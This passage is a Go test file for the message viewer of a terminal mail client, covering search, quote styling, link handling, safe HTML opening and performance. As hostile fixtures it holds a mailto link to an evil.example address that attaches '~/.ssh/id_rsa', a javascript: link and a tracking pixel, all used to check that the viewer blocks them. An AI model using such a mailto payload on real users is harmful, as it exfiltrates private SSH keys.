package viewer

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/charmbracelet/lipgloss"
	"github.com/charmbracelet/x/ansi"
	"github.com/muesli/termenv"

	"github.com/sesbox/sesbox/mailstore/mailbox"
	"github.com/sesbox/sesbox/mailstore/mime"
	"github.com/sesbox/sesbox/tui/common"
	"github.com/sesbox/sesbox/tui/internal/fixture"
	"github.com/sesbox/sesbox/tui/theme"
)

const (
	quoted     = "jr6ldfe35mavdg1t31ktm3s8q4i8gc9qkq9vhjif" // a long thread, quoted 3 deep
	newsletter = "nq31hrpsnr23r3g1d1i0rv6v2rpv24msu90nsnfk" // text + HTML with links + logo
	htmlOnly   = "51q3q5f6re1oui0b9i8uifaetjtfuhhc92evfqoa" // "Plain Text from HTML"
)

// run runs cmd and every command a batch holds, returning their messages.
func run(cmd tea.Cmd) []tea.Msg {
	if cmd == nil {
		return nil
	}
	msg := cmd()
	if b, ok := msg.(tea.BatchMsg); ok {
		var out []tea.Msg
		for _, c := range b {
			out = append(out, run(c)...)
		}
		return out
	}
	if msg == nil {
		return nil
	}
	return []tea.Msg{msg}
}

// pressAll is press that also runs batches.
func pressAll(t testing.TB, m Model, keys ...string) (Model, []tea.Msg) {
	t.Helper()
	var msgs []tea.Msg
	for _, k := range keys {
		var cmd tea.Cmd
		m, cmd = m.Update(fixture.Key(k))
		msgs = append(msgs, run(cmd)...)
	}
	return m, msgs
}

func notices(msgs []tea.Msg) []string {
	var out []string
	for _, msg := range msgs {
		if n, ok := msg.(common.NoticePostedMsg); ok {
			out = append(out, n.Text)
		}
	}
	return out
}

// lineOf returns the index of the first pager line holding s.
func lineOf(m Model, s string, from int) int {
	for i := from; i < len(m.lines); i++ {
		if strings.Contains(strings.ToLower(m.lines[i].plain()), strings.ToLower(s)) {
			return i
		}
	}
	return -1
}

func doSearch(t *testing.T, m Model, q string) (Model, []tea.Msg) {
	t.Helper()
	m, _ = press(t, m, "/")
	if !m.Capturing() {
		t.Fatal("/ did not open the search prompt")
	}
	m = typeText(m, q)
	return pressAll(t, m, "enter")
}

func TestSearchJumpsAndHighlights(t *testing.T) {
	m, _ := newViewer(t, 80, 20, quoted)
	m, msgs := doSearch(t, m, "PRIYA") // case-insensitive
	if m.Capturing() {
		t.Fatal("enter left the prompt open")
	}
	first := lineOf(m, "priya", 0)
	if first < 0 || m.vp.YOffset != first {
		t.Fatalf("offset %d, first match on line %d (%v)", m.vp.YOffset, first, msgs)
	}
	if n := len(m.search.hits); n < 5 {
		t.Fatalf("only %d hits", n)
	}
	v := m.View()
	if !strings.Contains(v, "\x1b[7;4mPriya\x1b[27;24m") {
		t.Fatalf("current match not highlighted:\n%q", v)
	}
	if !strings.Contains(v, "match 1/"+strconv.Itoa(len(m.search.hits))) {
		t.Fatalf("no match count in the rule:\n%s", v)
	}
	// n walks the hits in order, each one's line brought up (unless the
	// viewport is at its last page).
	maxOff := max(0, len(m.lines)-m.vp.Height)
	prevLine := first
	for i := 1; i < len(m.search.hits); i++ {
		m, _ = pressAll(t, m, "n")
		h := m.search.hits[i]
		if m.search.cur != i || m.vp.YOffset != min(h.line, maxOff) || h.line < prevLine {
			t.Fatalf("n #%d: cur %d offset %d, hit on line %d (max offset %d)", i, m.search.cur, m.vp.YOffset, h.line, maxOff)
		}
		prevLine = h.line
	}
	m, msgs = pressAll(t, m, "n")
	if m.search.cur != 0 || m.vp.YOffset != first || !strings.Contains(strings.Join(notices(msgs), ""), "BOTTOM, continuing at TOP") {
		t.Fatalf("n past the last hit: cur %d offset %d notices %q", m.search.cur, m.vp.YOffset, notices(msgs))
	}
	m, msgs = pressAll(t, m, "N")
	if m.search.cur != len(m.search.hits)-1 || !strings.Contains(strings.Join(notices(msgs), ""), "TOP, continuing at BOTTOM") {
		t.Fatalf("N before the first hit: cur %d notices %q", m.search.cur, notices(msgs))
	}
	// An empty search clears the highlighting.
	m, _ = doSearch(t, m, "")
	if m.search.re != nil || strings.Contains(m.View(), "\x1b[7") {
		t.Fatal("an empty search left highlights")
	}
}

func TestSearchHighlightInColour(t *testing.T) {
	m, _ := newViewer(t, 80, 20, quoted)
	r := lipgloss.NewRenderer(io.Discard)
	r.SetColorProfile(termenv.TrueColor)
	r.SetHasDarkBackground(true)
	m.c.Styles = theme.New(r)
	m, _ = doSearch(t, m, "priya")
	v := m.View()
	cur := m.c.Styles.MatchCurrent.Render("Priya")
	other := m.c.Styles.Match.Render("Priya")
	if cur == other || !strings.Contains(v, cur) || !strings.Contains(v, other) {
		t.Fatalf("current %q and other %q hits not both drawn:\n%q", cur, other, v)
	}
}

func TestSearchPromptTakesKeysAsText(t *testing.T) {
	m, _ := newViewer(t, 80, 20, quoted)
	top := m.vp.YOffset
	m, _ = press(t, m, "/")
	// Command keys and a burst of runes typed into the prompt are text.
	for _, k := range []tea.KeyMsg{fixture.Key("n"), fixture.Key("G"), fixture.Key("q"), fixture.Key("|"), {Type: tea.KeyRunes, Runes: []rune("jjj")}} {
		var cmd tea.Cmd
		m, cmd = m.Update(k)
		if msgs := run(cmd); len(msgs) > 0 {
			t.Fatalf("key %q in the prompt did something: %v", k, msgs)
		}
	}
	if got := m.input.Value(); got != "nGq|jjj" || m.vp.YOffset != top || !m.Capturing() {
		t.Fatalf("prompt holds %q, offset %d, capturing %v", got, m.vp.YOffset, m.Capturing())
	}
	m, msgs := pressAll(t, m, "enter")
	if len(notices(msgs)) != 1 || !strings.HasPrefix(notices(msgs)[0], "not found: nGq|jjj") {
		t.Fatalf("notices %q", notices(msgs))
	}
	if !strings.Contains(m.View(), "no match") {
		t.Fatalf("rule does not say no match:\n%s", m.View())
	}
	m, msgs = pressAll(t, m, "n")
	if len(notices(msgs)) != 1 || !strings.HasPrefix(notices(msgs)[0], "not found") {
		t.Fatalf("n after a failed search: %q", notices(msgs))
	}
}

func TestSearchInHeadersView(t *testing.T) {
	m, _ := newViewer(t, 80, 20, quoted)
	m, _ = press(t, m, "h")
	m, _ = doSearch(t, m, "dkim=pass")
	if len(m.search.hits) == 0 || m.vp.YOffset != m.search.hits[0].line {
		t.Fatalf("hits %v offset %d", m.search.hits, m.vp.YOffset)
	}
	if !strings.Contains(strings.ToLower(m.lines[m.search.hits[0].line].plain()), "dkim=pass") {
		t.Fatal("hit is not on a line holding the text")
	}
}

func TestPositionIndicator(t *testing.T) {
	m, _ := newViewer(t, 80, 20, quoted)
	rule := func() string { return m.headerLines()[len(m.headerLines())-1] }
	if !strings.HasSuffix(rule(), " top ─") {
		t.Fatalf("at the top: %q", rule())
	}
	total := m.vp.TotalLineCount()
	m, _ = press(t, m, " ") // a page down
	want := strconv.Itoa((m.vp.YOffset+m.vp.Height)*100/total) + "%"
	if m.vp.YOffset == 0 || !strings.HasSuffix(rule(), " "+want+" ─") {
		t.Fatalf("after a page: offset %d, rule %q, want %s", m.vp.YOffset, rule(), want)
	}
	m, _ = press(t, m, "G")
	if !strings.HasSuffix(rule(), " end ─") {
		t.Fatalf("at the end: %q", rule())
	}
	short, _ := newViewer(t, 80, 30, "bc32cpjuun75mnourtdm652lmamvp8e6g8a62t8i") // "Lunch on Friday?"
	if got := short.headerLines()[len(short.headerLines())-1]; !strings.HasSuffix(got, " all ─") {
		t.Fatalf("a short message: %q", got)
	}
	for _, w := range []int{40, 80, 120} {
		m.SetSize(w, 20)
		if got := lipgloss.Width(rule()); got != w {
			t.Errorf("rule is %d wide at %d", got, w)
		}
	}
}

func TestQuoteDepth(t *testing.T) {
	for l, want := range map[string]int{
		"plain": 0, "": 0, "> a": 1, ">a": 1, "> > a": 2, ">> a": 2, ">>> a": 3, "> >> > x": 4,
		" > indented": 0, "a > b": 0, ">": 1, "> ": 1,
	} {
		if got := QuoteDepth(l); got != want {
			t.Errorf("QuoteDepth(%q) = %d, want %d", l, got, want)
		}
	}
}

func TestQuotesDimmedByDepth(t *testing.T) {
	m, _ := newViewer(t, 80, 200, quoted)
	r := lipgloss.NewRenderer(io.Discard)
	r.SetColorProfile(termenv.TrueColor)
	r.SetHasDarkBackground(true)
	m.c.Styles = theme.New(r)
	m.layout()
	st := m.c.Styles
	v := m.View()
	for depth := 0; depth <= 3; depth++ {
		i := -1
		for j, l := range m.lines {
			if p := l.plain(); QuoteDepth(p) == depth && strings.TrimLeft(p, "> ") != "" && (depth > 0 || strings.Contains(p, "installed")) {
				i = j
				break
			}
		}
		if i < 0 {
			t.Fatalf("no line quoted %d deep", depth)
		}
		p := m.lines[i].plain()
		want := st.QuoteStyle(depth).Render(p)
		if !strings.Contains(v, want) {
			t.Errorf("depth %d line %q not drawn as %q", depth, p, want)
		}
	}
	if st.QuoteStyle(1).Render("x") == st.QuoteStyle(2).Render("x") || st.QuoteStyle(2).Render("x") == st.QuoteStyle(3).Render("x") {
		t.Fatal("quote depths look alike")
	}
	if st.QuoteStyle(9).Render("x") != st.QuoteStyle(3).Render("x") {
		t.Fatal("deep quotes do not share the last style")
	}
	// NO_COLOR: no styling at all, the ">" markers say it.
	t.Setenv("NO_COLOR", "1")
	m.c.Styles = theme.New(theme.NewRenderer(io.Discard, false))
	m.layout()
	if strings.Contains(m.View(), "\x1b") {
		t.Fatal("NO_COLOR view has escape sequences")
	}
}

func TestNotesLeaveTheBody(t *testing.T) {
	m, _ := newViewer(t, 100, 30, htmlOnly)
	if strings.Contains(m.View(), "Plain Text from HTML") {
		t.Fatalf("a library note above the body:\n%s", m.View())
	}
	m, _ = press(t, m, "p")
	if !strings.Contains(m.View(), "note: [W] Plain Text from HTML") {
		t.Fatalf("note not in the parts view:\n%s", m.View())
	}
	m, _ = press(t, m, "h")
	if !strings.Contains(m.View(), "note: [W] Plain Text from HTML") {
		t.Fatalf("note not in the headers view:\n%s", m.View())
	}
}

// TestLibraryWarningsAreNotes: the warnings on a message whose base64
// holds stray characters (enmime's) and whose charset is unknown, its text
// ASCII (sesbox's, as for a Subject in one), "Re: Quote Q-5521" of the
// demo, are notes in the parts and headers views; the body starts with
// the text.
func TestLibraryWarningsAreNotes(t *testing.T) {
	m, _ := newViewer(t, 100, 30, "ths366cuecr3mni1hpb725v0p9ies8vt0hb1b953")
	v := m.View()
	if strings.Contains(v, "Malformed Base64") || strings.Contains(v, "unknown charset") {
		t.Fatalf("library warnings above the body:\n%s", v)
	}
	if !strings.Contains(v, "Following up on quote Q-5521") {
		t.Fatalf("no body:\n%s", v)
	}
	for _, k := range []string{"p", "h"} {
		m, _ = press(t, m, k)
		v := m.View()
		for _, want := range []string{"note: [W] Malformed Base64: unexpected '!' in base64 stream", `note: unknown charset "x-unknown-8bit": the text is ASCII, read as it is`} {
			if !strings.Contains(v, want) {
				t.Errorf("%s view lacks %q:\n%s", k, want, v)
			}
		}
	}
}

func TestLinksListAndOpen(t *testing.T) {
	t.Setenv("SSH_CONNECTION", "")
	t.Setenv("SSH_TTY", "")
	t.Setenv("TMUX", "")
	log := filepath.Join(t.TempDir(), "browser.log")
	browser := writeScript(t, "printf '%s\\n' \"$@\" >> "+log)
	t.Setenv("BROWSER", browser)
	m, term := newViewer(t, 100, 30, newsletter)
	v := m.Message().View
	if all, _ := v.AllLinks(); len(m.links) != len(all) || len(m.links) < 5 {
		t.Fatalf("links %v", m.links)
	}
	m, _ = press(t, m, "l")
	view := m.View()
	for i, l := range m.links {
		if !strings.Contains(view, "["+strconv.Itoa(l.Footnote)+"]  "+l.URL) || l.Footnote != i+1 {
			t.Fatalf("link %d %q not listed:\n%s", i, l.URL, view)
		}
	}
	m, _ = press(t, m, "j")
	m, msgs := pressAll(t, m, "enter")
	want := m.links[1].URL
	if len(msgs) != 1 || msgs[0] != (LinkOpenedMsg{URL: want}) || !addressed(msgs[0]) {
		t.Fatalf("enter: %#v", msgs)
	}
	_, c := m.Update(msgs[0])
	if n := notices(run(c)); len(n) != 1 || n[0] != "opened "+want {
		t.Fatalf("notice %q", n)
	}
	waitFor(t, func() bool { b, _ := os.ReadFile(log); return string(b) == want+"\n" })

	// Over SSH the link is copied instead.
	t.Setenv("SSH_TTY", "/dev/pts/1")
	_, msgs = pressAll(t, m, "enter")
	if msgs[0] != (LinkOpenedMsg{URL: want, Copied: true, Why: "not opened over SSH"}) {
		t.Fatalf("over SSH: %#v", msgs)
	}
	osc := "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte(want)) + "\x07"
	if !strings.Contains(term.String(), osc) {
		t.Fatalf("terminal got %q", term.String())
	}
	// y copies without opening.
	t.Setenv("SSH_TTY", "")
	_, msgs = pressAll(t, m, "y")
	if msgs[0] != (LinkOpenedMsg{URL: want, Copied: true}) {
		t.Fatalf("y: %#v", msgs)
	}
}

func TestLinkOfAnotherSchemeIsOnlyCopied(t *testing.T) {
	t.Setenv("SSH_CONNECTION", "")
	t.Setenv("SSH_TTY", "")
	t.Setenv("BROWSER", writeScript(t, "echo opened >> "+filepath.Join(t.TempDir(), "x")))
	m, _ := newViewer(t, 100, 30, newsletter)
	m.links = []mime.Link{{URL: "javascript:alert(1)"}}
	m, _ = press(t, m, "l")
	_, msgs := pressAll(t, m, "enter")
	if lo := msgs[0].(LinkOpenedMsg); !lo.Copied || lo.Why == "" {
		t.Fatalf("got %#v", lo)
	}
}

// TestMailtoLinkNamingAFileIsOnlyCopied: Enter on a sender's mailto:
// link with attach= started the browser (xdg-open: the mail client) on
// it, which attaches the file it names to the reply; it is copied, the
// browser not started, and the notice says why.
func TestMailtoLinkNamingAFileIsOnlyCopied(t *testing.T) {
	t.Setenv("SSH_CONNECTION", "")
	t.Setenv("SSH_TTY", "")
	log := filepath.Join(t.TempDir(), "browser.log")
	t.Setenv("BROWSER", writeScript(t, "printf '%s\\n' \"$@\" >> "+log))
	m, term := newViewer(t, 100, 30, newsletter)
	url := "mailto:support@evil.example?subject=Re%3A%20invoice&attach=%2Fhome%2Fme%2F.ssh%2Fid_rsa"
	m.links = []mime.Link{{URL: url}}
	m, _ = press(t, m, "l")
	_, msgs := pressAll(t, m, "enter")
	lo, ok := msgs[0].(LinkOpenedMsg)
	if !ok || !lo.Copied || !strings.Contains(lo.Why, "mailto:") {
		t.Fatalf("got %#v", msgs[0])
	}
	if !strings.Contains(term.String(), "\x1b]52;c;"+base64.StdEncoding.EncodeToString([]byte(url))) {
		t.Errorf("not copied: the terminal got %q", term.String())
	}
	if b, err := os.ReadFile(log); err == nil {
		t.Errorf("the browser was started with %q", b)
	}
}

func TestOpenHTMLUsesSafePrivateCopy(t *testing.T) {
	rt := t.TempDir()
	t.Setenv("XDG_RUNTIME_DIR", rt)
	log := filepath.Join(t.TempDir(), "browser.log")
	t.Setenv("BROWSER", writeScript(t, "printf '%s' \"$1\" > "+log))
	m, _ := newViewer(t, 100, 30, newsletter)
	_, msgs := pressAll(t, m, "v")
	opened, ok := msgs[0].(AttachmentOpenedMsg)
	if !ok || opened.Err != nil {
		t.Fatalf("got %#v", msgs)
	}
	if filepath.Dir(opened.Dir) != filepath.Join(rt, "sesbox") || filepath.Dir(opened.Path) != opened.Dir {
		t.Fatalf("opened %s in %s, not under %s", opened.Path, opened.Dir, rt)
	}
	for p, mode := range map[string]os.FileMode{opened.Dir: 0o700, filepath.Dir(opened.Dir): 0o700, opened.Path: 0o600} {
		fi, err := os.Lstat(p)
		if err != nil || fi.Mode().Perm() != mode || fi.Mode()&os.ModeSymlink != 0 {
			t.Fatalf("%s: %v %v", p, fi.Mode(), err)
		}
	}
	if !strings.HasSuffix(opened.Path, ".html") {
		t.Fatalf("name %s", opened.Path)
	}
	b, _ := os.ReadFile(opened.Path)
	s := string(b)
	if !strings.Contains(s, `http-equiv="Content-Security-Policy"`) || !strings.Contains(s, "default-src &#39;none&#39;") {
		t.Fatalf("no CSP:\n%s", s)
	}
	if strings.Contains(s, `src="http`) || strings.Contains(s, `src="//`) {
		t.Fatalf("a remote src is left:\n%s", s)
	}
	if !strings.Contains(s, `src="data:image/png;base64,`) || strings.Contains(s, `src="cid:`) {
		t.Fatalf("the logo (cid:) is not inline:\n%s", s)
	}
	waitFor(t, func() bool { b, _ := os.ReadFile(log); return string(b) == opened.Path })
	os.RemoveAll(opened.Dir)

	// A symlink where the private base should be is refused.
	rt2 := t.TempDir()
	os.Symlink(t.TempDir(), filepath.Join(rt2, "sesbox"))
	t.Setenv("XDG_RUNTIME_DIR", rt2)
	_, msgs = pressAll(t, m, "v")
	if opened := msgs[0].(AttachmentOpenedMsg); opened.Err == nil {
		t.Fatalf("followed a symlink: %#v", opened)
	}
}

// v opens HTML nested deeper than html.Parse takes (a mailer that never
// closes its <font>): it failed with "open stack of elements exceeds 512
// nodes", though the pager showed its text.
func TestOpenHTMLNestedDeeply(t *testing.T) {
	t.Setenv("XDG_RUNTIME_DIR", t.TempDir())
	log := filepath.Join(t.TempDir(), "browser.log")
	t.Setenv("BROWSER", writeScript(t, "printf '%s' \"$1\" > "+log))
	raw := "From: a@x.example\r\nSubject: deep\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
		strings.Repeat("<font>", 700) + "the bottom <img src=\"https://track.example/p.gif\">\r\n"
	m, _ := newViewer(t, 80, 24, korean)
	v := mime.Parse([]byte(raw))
	s := v.Summary
	s.Key = "inbox/deep"
	m.SetMessage(&mailbox.Message{Summary: s, Raw: []byte(raw), View: v})
	_, msgs := pressAll(t, m, "v")
	opened, ok := msgs[0].(AttachmentOpenedMsg)
	if !ok || opened.Err != nil {
		t.Fatalf("got %#v", msgs)
	}
	defer os.RemoveAll(opened.Dir)
	b, _ := os.ReadFile(opened.Path)
	if !strings.Contains(string(b), "the bottom") || !strings.Contains(string(b), "Content-Security-Policy") || strings.Contains(string(b), "track.example") {
		t.Fatalf("not the safe copy:\n%.400s", b)
	}
	waitFor(t, func() bool { b, _ := os.ReadFile(log); return string(b) == opened.Path })
}

func TestEnterShowsTextPartInline(t *testing.T) {
	m, _ := newViewer(t, 100, 30, payroll)
	m, _ = press(t, m, "p", "j") // part 2: text/plain "bashrc"
	m, msgs := pressAll(t, m, "enter")
	m, msgs = feed(m, msgs)
	if len(msgs) != 0 || m.mode != modePart || m.inline.index != 2 {
		t.Fatalf("mode %v part %d msgs %v", m.mode, m.inline.index, msgs)
	}
	v := m.View()
	if !strings.Contains(v, "alias ls='ls --color=auto'") || !strings.Contains(v, "part 2: text/plain") {
		t.Fatalf("part not shown:\n%s", v)
	}
	checkWidths(t, v, 100, 30)
	if !m.Back() || m.mode != modeParts || !m.Back() || m.mode != modeBody {
		t.Fatal("Back does not lead part -> parts -> body")
	}
}

func TestEnterShowsNestedMessage(t *testing.T) {
	raw, err := os.ReadFile("../../testdata/corpus/imaptools-windows1251_8bit_rfc822.eml")
	if err != nil {
		t.Fatal(err)
	}
	m, _ := newViewer(t, 100, 30, korean)
	v := mime.Parse(raw)
	s := v.Summary
	s.Key = "inbox/nested"
	m.SetMessage(&mailbox.Message{Summary: s, Raw: raw, View: v})
	m, _ = press(t, m, "p")
	m = openNested(t, m)
	if m.mode != modePart || m.inline.nested == nil {
		t.Fatalf("mode %v nested %v", m.mode, m.inline.nested)
	}
	out := m.View()
	nested := m.inline.nested
	if subj := nested.Summary.Subject; subj == "" || !strings.Contains(out, "Subject: "+subj) {
		t.Fatalf("nested subject %q not shown:\n%s", subj, out)
	}
	if !strings.Contains(out, "From: ") || strings.Contains(out, "\x1b") {
		t.Fatalf("nested header:\n%q", out)
	}
	checkWidths(t, out, 100, 30)
}

// The parts list shows every part's number whole, as wide as the last:
// the 100th of 500 parts was "1…".
func TestPartsListShowsLongNumbers(t *testing.T) {
	var b strings.Builder
	b.WriteString("From: a@x.example\r\nSubject: many\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nbody\r\n")
	for i := range 120 {
		b.WriteString("--B\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=f" + strconv.Itoa(i) + "\r\n\r\nx\r\n")
	}
	b.WriteString("--B--\r\n")
	raw := []byte(b.String())
	m, _ := newViewer(t, 80, 24, korean)
	v := mime.Parse(raw)
	s := v.Summary
	s.Key = "inbox/many"
	m.SetMessage(&mailbox.Message{Summary: s, Raw: raw, View: v})
	m, _ = press(t, m, "p", "G")
	out := m.View()
	checkWidths(t, out, 80, 24)
	if !strings.Contains(out, "> @121  application/octet-stream") {
		t.Errorf("the last part is not whole:\n%s", out)
	}
	if lineOf(m, "  @ 99  application/octet-stream", 0) < 0 {
		t.Errorf("no part 99")
	}
}

// TestPartsHeadingStaysOnScreen: the column names of the parts and links
// lists stay above them, as the message list's do: they scrolled away
// with the rows, and at G the columns had no names.
func TestPartsHeadingStaysOnScreen(t *testing.T) {
	var b strings.Builder
	b.WriteString("From: a@x.example\r\nSubject: many\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nbody\r\n")
	for i := range 60 {
		b.WriteString("--B\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=f" + strconv.Itoa(i) + "\r\n\r\nhttps://x.example/" + strconv.Itoa(i) + "\r\n")
		b.WriteString("--B\r\nContent-Type: text/plain\r\n\r\nhttps://x.example/" + strconv.Itoa(i) + "\r\n")
	}
	b.WriteString("--B--\r\n")
	raw := []byte(b.String())
	for _, sz := range [][2]int{{80, 24}, {40, 10}, {120, 36}} {
		m, _ := newViewer(t, sz[0], sz[1], korean)
		v := mime.Parse(raw)
		s := v.Summary
		s.Key = "inbox/many"
		m.SetMessage(&mailbox.Message{Summary: s, Raw: raw, View: v})
		for _, k := range []struct{ open, head, last string }{{"p", "#  Type", ">  121"}, {"l", "#  Link", "x.example/59"}} {
			m, _ = press(t, m, k.open, "G")
			out := m.View()
			checkWidths(t, out, sz[0], sz[1])
			if !strings.Contains(out, k.head) || !strings.Contains(out, k.last) {
				t.Errorf("%dx%d %s G: the heading or the last row is not on screen:\n%s", sz[0], sz[1], k.open, out)
			}
			m, _ = press(t, m, "g")
			if out := m.View(); strings.Count(out, k.head) != 1 {
				t.Errorf("%dx%d %s g: the heading is not there once:\n%s", sz[0], sz[1], k.open, out)
			}
			m.Back()
		}
	}
}

// Opening and closing a prompt, or a terminal only taller or shorter,
// keep the lines as wrapped: wrapping a body of megabytes again took half
// a second at every / and Esc. The pager still fits the new height.
func TestPromptKeepsTheWrappedLines(t *testing.T) {
	m, _ := newViewer(t, 80, 24, quoted)
	wrapped := &m.lines[0]
	same := func(when string) {
		t.Helper()
		if &m.lines[0] != wrapped {
			t.Fatalf("%s: the body was wrapped again", when)
		}
		checkWidths(t, m.View(), 80, m.height)
	}
	m, _ = press(t, m, "G", "/")
	same("/")
	if m.vp.Height != 24-len(m.headerLines())-1 {
		t.Fatalf("the pager does not fit above the prompt: height %d", m.vp.Height)
	}
	m, _ = press(t, m, "esc")
	same("esc")
	m.SetSize(80, 30)
	same("taller")
	if m.vp.Height != 30-len(m.headerLines()) || !m.vp.AtBottom() {
		t.Fatalf("height %d at bottom %v", m.vp.Height, m.vp.AtBottom())
	}
	m.SetSize(60, 30)
	if &m.lines[0] == wrapped || lineOf(m, strings.Repeat("x", 61), 0) >= 0 {
		t.Fatal("a narrower pager kept lines wrapped for the old width")
	}
	checkWidths(t, m.View(), 60, 30)
}

// On a short terminal the header block gives way to the pager: at the
// smallest size the TUI takes (40x10, 7 lines for the viewer) a message
// with an envelope and attachments left the pager no line at all.
func TestShortTerminalKeepsThePager(t *testing.T) {
	m, _ := newViewer(t, 40, 7, payroll)
	out := m.View()
	checkWidths(t, out, 40, 7)
	if m.vp.Height < minPager {
		t.Fatalf("the pager has %d lines:\n%s", m.vp.Height, out)
	}
	for _, want := range []string{"From:", "Subject:", "SES:", "payroll"} {
		if !strings.Contains(strings.ToLower(out), strings.ToLower(want)) {
			t.Errorf("no %q:\n%s", want, out)
		}
	}
	m, _ = press(t, m, "p", "G")
	if out := m.View(); !strings.Contains(out, "   Size   Name") || !strings.Contains(out, "  @ 3  applicatio…    39B   statement_g…") {
		t.Errorf("the parts list, its sizes and names, are not shown:\n%s", out)
	}
	// Tall enough, nothing gives way.
	m.SetSize(40, 30)
	for _, want := range []string{"To:", "Date:", "Envelope:", "Attached:"} {
		if !strings.Contains(m.View(), want) {
			t.Errorf("no %q at 40x30:\n%s", want, m.View())
		}
	}
}

// A Subject or sender of megabytes is drawn from its head (common.Head),
// not sanitized and measured whole at every frame.
func TestHugeHeaderIsDrawnFromItsHead(t *testing.T) {
	m, _ := newViewer(t, 80, 24, korean)
	msg := fixture.DemoMessage(korean)
	msg.Summary.Subject = strings.Repeat("S", 1<<20)
	msg.Summary.From.Name = strings.Repeat("界", 100000)
	for range 20000 {
		msg.Summary.To = append(msg.Summary.To, msg.Summary.To[0])
	}
	m.SetMessage(msg)
	var v string
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	v = m.View()
	runtime.ReadMemStats(&after)
	if n := after.TotalAlloc - before.TotalAlloc; n > 512<<10 {
		t.Errorf("a frame allocates %d KB", n>>10)
	}
	checkWidths(t, v, 80, 24)
	if !strings.Contains(v, "Subject:  "+strings.Repeat("S", 69)+"…") || !strings.Contains(v, "From:     "+strings.Repeat("界", 34)+"…") {
		t.Errorf("the subject and sender are not shown cut:\n%s", v)
	}
}

// A search stops at maxHits: one letter searched in a body of megabytes
// made 5 million hits, 10 s to find and highlight and 5 s for each n. The
// rule says the count is a floor, and n past the last says why it wraps.
func TestSearchStopsAtMaxHits(t *testing.T) {
	body := strings.Repeat(strings.Repeat("x", 79)+"\r\n", 400)
	raw := []byte("From: a@x.example\r\nSubject: xs\r\n\r\n" + body)
	m, _ := newViewer(t, 80, 24, korean)
	v := mime.Parse(raw)
	s := v.Summary
	s.Key = "inbox/xs"
	m.SetMessage(&mailbox.Message{Summary: s, Raw: raw, View: v})
	m, _ = doSearch(t, m, "x")
	if len(m.search.hits) != maxHits {
		t.Fatalf("%d hits, want %d", len(m.search.hits), maxHits)
	}
	if r := m.rule(); !strings.Contains(r, " match 1/10000+ ") {
		t.Errorf("rule %q", r)
	}
	m.search.cur = maxHits - 1
	m, msgs := pressAll(t, m, "n")
	if got := notices(msgs); m.search.cur != 0 || len(got) != 1 || !strings.Contains(got[0], "stopped at 10000+ matches") {
		t.Errorf("n past the last: cur %d, notices %q", m.search.cur, got)
	}
	checkWidths(t, m.View(), 80, 24)
}

// On a narrow terminal a sub-view's title is cut, not dropped: at 40
// columns the rule of the links, parts, headers and raw views said
// nothing of what they were.
func TestNarrowRuleKeepsTheTitle(t *testing.T) {
	m, _ := newViewer(t, 40, 20, newsletter)
	for k, want := range map[string]string{"l": "── links (", "p": "── parts (", "h": "── full headers", "H": "── raw source"} {
		m, _ := press(t, m, k)
		r := m.rule()
		if !strings.HasPrefix(r, want) || ansi.StringWidth(r) != 40 {
			t.Errorf("%s: rule %q (%d cells)", k, r, ansi.StringWidth(r))
		}
	}
}

// n and N draw again only the lines that hold hits, not the whole body:
// on a 5 MB body every n took 0.3 s and 340,000 allocations.
func TestNextHitDrawsOnlyTheHitLines(t *testing.T) {
	body := strings.Repeat("a line of the body with nothing to find in it\r\n", 20000) + "the needle\r\nanother needle\r\n"
	raw := []byte("From: a@x.example\r\nSubject: long\r\n\r\n" + body)
	m, _ := newViewer(t, 80, 24, korean)
	v := mime.Parse(raw)
	s := v.Summary
	s.Key = "inbox/long"
	m.SetMessage(&mailbox.Message{Summary: s, Raw: raw, View: v})
	m, _ = doSearch(t, m, "needle")
	if a := testing.AllocsPerRun(1, func() { m.Update(fixture.Key("n")) }); a > 2000 {
		t.Errorf("n allocates %.0f times: it draws every line", a)
	}
	m, _ = press(t, m, "n")
	if m.search.cur != 1 || !strings.Contains(ansi.Strip(m.View()), "another needle") {
		t.Fatalf("n did not move to the second hit (cur %d):\n%s", m.search.cur, m.View())
	}
}

// foxes is a viewer at 80x24 on a body of n lines with "fox" on each,
// searched for "fox".
func foxes(t *testing.T, n int) Model {
	t.Helper()
	var body strings.Builder
	for i := range n {
		fmt.Fprintf(&body, "line %07d the quick brown fox jumps over the lazy dog\r\n", i)
	}
	raw := []byte("From: a@x.example\r\nSubject: foxes\r\n\r\n" + body.String())
	m, _ := newViewer(t, 80, 24, korean)
	v := mime.Parse(raw)
	s := v.Summary
	s.Key = "inbox/foxes"
	if cmd := m.SetMessage(&mailbox.Message{Summary: s, Raw: raw, View: v}); cmd != nil {
		m, _ = m.Update(cmd()) // over bigBody: wrapped in a Cmd
	}
	m, _ = doSearch(t, m, "fox")
	return m
}

// TestNextHitCostsTheScreenNotTheBody: on a 4.6 MB body of 80,000 lines
// with 10,000 hits, n still took 19 ms of CPU (44 ms on a loaded machine:
// more than a frame over SSH), since every refresh joined the lines drawn
// into one string and the viewport split it and measured the width of
// each of its 80,000 lines. The viewport now holds only the line count,
// and the pager draws the lines on screen: n, N and a View allocate what
// a screen does, not the body (counted in bytes, which a loaded machine
// does not stretch; 0.18 ms a key here).
func TestNextHitCostsTheScreenNotTheBody(t *testing.T) {
	m := foxes(t, 80000)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	const keys = 20
	for i := range keys {
		k := "n"
		if i%4 == 3 {
			k = "N"
		}
		m, _ = m.Update(fixture.Key(k))
		_ = m.View()
	}
	runtime.ReadMemStats(&after)
	if per := (after.TotalAlloc - before.TotalAlloc) / keys; per > 256<<10 {
		t.Errorf("a key allocates %d KB: it draws the body, not the screen", per>>10)
	}
	if m.search.cur != 10 || !strings.Contains(m.rule(), " match 11/10000+ ") {
